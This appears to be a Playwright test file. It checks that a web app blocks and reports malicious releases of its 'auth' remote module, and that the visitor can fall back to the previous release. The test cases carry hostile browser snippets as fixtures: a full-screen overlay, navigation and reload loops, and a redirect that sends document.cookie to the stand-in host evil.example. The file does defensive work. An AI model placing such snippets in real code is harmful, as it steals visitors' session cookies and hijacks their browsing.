import { readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { expectAccessible } from '../../support/accessible.ts';
import { releaseWith } from '../../support/bad-release.ts';
import { exposeCode, inBrowser, remoteSource } from '../../support/remote-source.ts';
import { reportsOf } from '../../support/sent-reports.ts';
import { expect, test } from '../../support/test.ts';

const REMOTE = 'auth';
const VERSION = '9.0.0-bad';

test.use({ expectedNoise: /auth|TypeError|read only|not extensible|refused/ });

let registry: string;
test.beforeEach(async ({ system }) => {
  registry = await readFile(path.join(system.remotesDir, 'remotes.json'), 'utf8');
});
test.afterEach(async ({ system }) => {
  await writeFile(path.join(system.remotesDir, 'remotes.json'), registry);
  await rm(path.join(system.remotesDir, REMOTE, VERSION), { recursive: true, force: true });
});

interface Case {
  what: string;
  /** Runs in browsers as the release is imported. */
  code: string;
  kind: 'hidden' | 'navigation';
  /** What the visitor reads. */
  text: string;
}

const CASES: readonly Case[] = [
  {
    what: 'covers the menu',
    code: `const cover = document.createElement('div');
      cover.style.cssText = 'position:fixed;inset:0;z-index:2147483647;background:white';
      document.body.append(cover);`,
    kind: 'hidden',
    text: 'hides the menu',
  },
  {
    what: 'navigates in a loop',
    code: `let count = 0; setInterval(() => history.pushState(null, '', '/login?n=' + (count += 1)), 50);`,
    kind: 'navigation',
    text: 'kept opening pages by itself',
  },
  {
    what: 'loads the page again and again',
    code: `setTimeout(() => location.reload(), 50);`,
    kind: 'navigation',
    text: 'kept opening pages by itself',
  },
  {
    what: 'takes the visitor to another site',
    code: `location.href = 'https://evil.example/?' + document.cookie;`,
    kind: 'navigation',
    text: 'tried to take you to another site',
  },
];

async function expectPreviousRelease(page: Page): Promise<void> {
  await expect(page.getByLabel('Email')).toBeVisible();
  await expect(page.getByRole('alertdialog')).toBeHidden();
  await page.getByRole('link', { name: 'NaijaAgents', exact: true }).click();
  await expect(page.locator('main a[href^="/agent/"]').first()).toBeVisible();
}

for (const { what, code, kind, text } of CASES)
  test(`a release that ${what} is stopped and reported, and the visitor goes on without it`, async ({
    page,
    system,
  }) => {
    const source = remoteSource(REMOTE, inBrowser(code), `() => h('h1', { children: 'Bad' })`);
    await releaseWith(exposeCode(source), system.remotesDir, REMOTE, VERSION);
    const reports = reportsOf(page);
    await page.goto('/login');
    const dialog = page.getByRole('alertdialog');
    await expect(dialog).toContainText(`${REMOTE} ${VERSION} ${text}`, { timeout: 30_000 });
    expect(reports).toContainEqual(expect.objectContaining({ remote: REMOTE, version: VERSION, kind }));
    if (kind === 'hidden') await expectAccessible(page, dialog);
    await dialog.getByRole('button', { name: 'Reload' }).click();
    await expectPreviousRelease(page);
  });
